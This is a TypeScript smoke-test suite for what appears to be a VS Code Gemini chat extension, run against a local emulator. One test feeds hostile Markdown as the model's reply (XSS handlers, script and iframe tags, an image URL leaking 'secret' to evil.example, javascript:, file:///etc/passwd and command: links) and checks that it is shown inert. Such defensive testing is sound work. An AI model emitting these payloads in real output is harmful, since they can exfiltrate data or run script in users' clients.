import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { faultOf } from '../emulator/faults/fault';
import { notifications, patience } from '../host/workbench';
import { openWorkbench, type Workbench } from './fixture';

/** The body of the n-th create request, counted from the end. */
interface SentBody {
  readonly model?: string;
  readonly previous_interaction_id?: string;
  readonly input: readonly { readonly type: string; readonly text?: string }[];
}

describe('the main job: ask about selected code @smoke', function () {
  this.timeout(6 * patience);
  let workbench: Workbench;
  const creates = (): readonly SentBody[] =>
    workbench.emulator.requests
      .filter(({ method, path: route }) => method === 'POST' && route.endsWith('/interactions'))
      .map(({ body }) => body as SentBody);
  const composer = () => workbench.panel.getByRole('textbox', { name: 'Message Gemini' });
  const log = () => workbench.panel.getByRole('log', { name: 'Conversation' });
  const answer = (at: number) => log().getByRole('article', { name: 'Gemini' }).nth(at);

  /** Types into the composer with real keys, once it has the focus. */
  async function ask(text: string): Promise<void> {
    await composer().and(workbench.panel.locator(':focus')).waitFor({ timeout: patience });
    await workbench.page.keyboard.type(text);
    await workbench.page.keyboard.press('Enter');
  }
  async function clickAndAsk(text: string): Promise<void> {
    await composer().click();
    await ask(text);
  }

  before(async () => {
    workbench = await openWorkbench();
  });
  after(() => workbench?.close());

  it('asks for a key first, and takes one through the palette', async () => {
    await workbench.palette('Gemini: Open Chat');
    await workbench.panel.getByRole('button', { name: 'Set API key' }).first().waitFor({ timeout: patience });
    await workbench.screenshot('01-no-key');
    await workbench.palette('Gemini: Set API Key');
    const input = workbench.page.locator('.quick-input-widget input');
    await input.fill('test-key');
    await workbench.page.keyboard.press('Enter');
    await workbench.page
      .getByText(/Connected to http:\/\/127\.0\.0\.1/)
      .first()
      .waitFor({ timeout: patience });
    assert.ok((await notifications(workbench.page)).some((text) => /models/.test(text)));
    await workbench.panel
      .getByRole('button', { name: 'Set API key' })
      .first()
      .waitFor({ state: 'hidden', timeout: patience });
    await workbench.palette('Notifications: Clear All Notifications');
  });

  it('shows text growing before the answer has ended, and says that this is not Google', async () => {
    workbench.emulator.script({
      pieces: ['The discount is ', { gate: 'half' }, 'applied twice.\n\n```ts\nconst price = 1;\n```\n'],
    });
    await workbench.openFile('cart.ts');
    await workbench.selectLines(1, 5);
    await workbench.palette('Gemini: Ask About Selection');
    await workbench.panel
      .getByRole('list', { name: 'Attachments' })
      .getByText(/cart\.ts:1-5/)
      .waitFor({ timeout: patience });
    await workbench.screenshot('02-attached');
    await ask('What is wrong here?');
    await answer(0).getByText('The discount is').waitFor({ timeout: patience });
    assert.equal(await answer(0).getByText('applied twice').count(), 0);
    await workbench.panel.getByRole('button', { name: 'Stop' }).waitFor();
    await workbench.screenshot('03-streaming');
    workbench.emulator.release('half');
    await answer(0).getByText('applied twice').waitFor({ timeout: patience });
    await answer(0).getByRole('button', { name: 'Copy code' }).waitFor({ timeout: patience });
    await answer(0).locator('.hl-keyword').getByText('const').waitFor({ timeout: patience });
    await workbench.panel.getByText(/Answers do not come from Google/).waitFor();
    await workbench.screenshot('04-answer');
  });

  it('sent the selected lines exactly, and the key in the header only', () => {
    const lines = readFileSync(path.join(workbench.workspace, 'src/cart.ts'), 'utf8')
      .split('\n')
      .slice(0, 5)
      .join('\n');
    const [attached, question] = creates().at(-1)?.input ?? [];
    assert.equal(attached?.text, `From src/cart.ts, lines 1-5:\n\`\`\`typescript\n${lines}\n\`\`\``);
    assert.equal(question?.text, 'What is wrong here?');
    const request = workbench.emulator.requests.findLast(({ method }) => method === 'POST');
    assert.equal(request?.headers['x-goog-api-key'], 'test-key');
    assert.equal(JSON.stringify([request?.path, request?.query, request?.body]).includes('test-key'), false);
  });

  it('inserts a code block at the cursor as one undo step, and copies it', async () => {
    await answer(0).getByRole('button', { name: 'Copy code' }).click();
    await workbench.page.waitForFunction(
      async () => (await navigator.clipboard.readText()) === 'const price = 1;',
    );
    await workbench.openFile('README.md');
    await workbench.page.keyboard.press('Control+Home');
    // The log is a text editor too, and nobody can write to it.
    await workbench.palette('Gemini: Show Log');
    await workbench.page.locator('.output-view .view-lines').click({ timeout: patience });
    await answer(0).getByRole('button', { name: 'Insert at cursor' }).click();
    const editor = workbench.page.locator('.editor-instance .view-lines').first();
    await editor.getByText('const price = 1;').waitFor({ timeout: patience });
    await workbench.page.keyboard.press('Control+z');
    await editor.getByText('const price = 1;').waitFor({ state: 'hidden', timeout: patience });
  });

  it('asks again in the same conversation', async () => {
    workbench.emulator.script({ text: 'Once is enough.' });
    await clickAndAsk('How often should it be?');
    await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
    const [first, second] = creates().slice(-2);
    assert.equal(first?.previous_interaction_id, undefined);
    assert.match(second?.previous_interaction_id ?? '', /^v1_/);
    assert.deepEqual(second?.input, [{ type: 'text', text: 'How often should it be?' }]);
  });

  it('goes on after the window was reloaded, with what was half typed', async () => {
    await composer().click();
    await workbench.page.keyboard.type('And now?');
    await workbench.openFile('cart.ts');
    await workbench.reloadWindow();
    await workbench.palette('Gemini: Open Chat');
    await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
    assert.equal(await composer().inputValue(), 'And now?');
    workbench.emulator.script({ text: 'Still here.' });
    await clickAndAsk('');
    await answer(2).getByText('Still here.').waitFor({ timeout: patience });
    const request = workbench.emulator.requests.findLast(({ method }) => method === 'POST');
    assert.match(creates().at(-1)?.previous_interaction_id ?? '', /^v1_/);
    assert.equal(request?.headers['x-goog-api-key'], 'test-key');
    await workbench.screenshot('05-after-reload');
    await workbench.reloadWindow();
    await workbench.palette('Gemini: Open Chat');
    await answer(2).getByText('Still here.').waitFor({ timeout: patience });
    assert.equal(await composer().inputValue(), '');
  });

  it('stops an answer with Escape and keeps what has arrived', async () => {
    workbench.emulator.script({ pieces: ['A long story. ', { gate: 'never' }, 'The end.'] });
    await clickAndAsk('Tell me');
    await answer(3).getByText('A long story.').waitFor({ timeout: patience });
    await workbench.page.keyboard.press('Escape');
    await answer(3)
      .getByRole('status')
      .getByText(/stopped/i)
      .waitFor({ timeout: patience });
    assert.equal(await answer(3).getByText('The end.').count(), 0);
    await workbench.screenshot('06-stopped');
  });

  it('names a failure, and tries again at a click', async () => {
    workbench.emulator.faults.add(faultOf('blocked'));
    await clickAndAsk('Once more');
    const alert = workbench.panel.getByRole('alert');
    await alert.waitFor({ timeout: patience });
    await workbench.screenshot('07-failed');
    workbench.emulator.script({ text: 'Here you are.' });
    await alert.getByRole('button', { name: 'Retry' }).click();
    await log().getByText('Here you are.').waitFor({ timeout: patience });
    assert.equal(await workbench.panel.getByRole('alert').count(), 0);
  });

  it('counts down when the service asks to wait, and goes on by itself', async () => {
    workbench.emulator.faults.add(faultOf('rate-limit', { retryAfter: 3 }));
    workbench.emulator.script({ text: 'Thank you for waiting.' });
    await clickAndAsk('Are you busy?');
    await log()
      .getByText(/Trying again in [1-3] s/)
      .waitFor({ timeout: patience });
    await log().getByText('Thank you for waiting.').waitFor({ timeout: patience });
    assert.equal(
      await log()
        .getByText(/Trying again/)
        .count(),
      0,
    );
  });

  it('shows hostile Markdown as text: nothing runs, nothing is loaded', async () => {
    const requested: string[] = [];
    workbench.page.on('request', (request) => requested.push(request.url()));
    workbench.emulator.script({
      text: '<img src=x onerror="document.title=1"><script>document.title=2</script>\n\n![pixel](https://evil.example/p.png?d=secret)\n\n[click](javascript:alert(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.quit)\n\n<iframe src="https://evil.example/"></iframe>',
    });
    await clickAndAsk('Be evil');
    await log()
      .getByText(/<img src=x/)
      .waitFor({ timeout: patience });
    await workbench.screenshot('08-hostile');
    assert.equal(await log().locator('iframe, script, img').count(), 0);
    const links = await log()
      .getByRole('article')
      .last()
      .getByRole('link')
      .evaluateAll((all) => all.map((each) => each.getAttribute('href')));
    assert.deepEqual(
      links.filter((href) => href !== null && !/^https?:/.test(href)),
      [],
    );
    assert.deepEqual(
      requested.filter((url) => url.includes('evil.example')),
      [],
    );
  });

  it('opens the same chat in an editor tab', async () => {
    await workbench.palette('Gemini: Open Chat in Editor');
    const tab = workbench.page
      .frameLocator('iframe.webview[src*="purpose=webviewPanel"], iframe.webview:not([src*="purpose"])')
      .frameLocator('iframe#active-frame');
    await tab
      .getByRole('log', { name: 'Conversation' })
      .getByText('Once is enough.')
      .waitFor({ timeout: patience });
    await workbench.screenshot('09-editor-tab');
  });
});
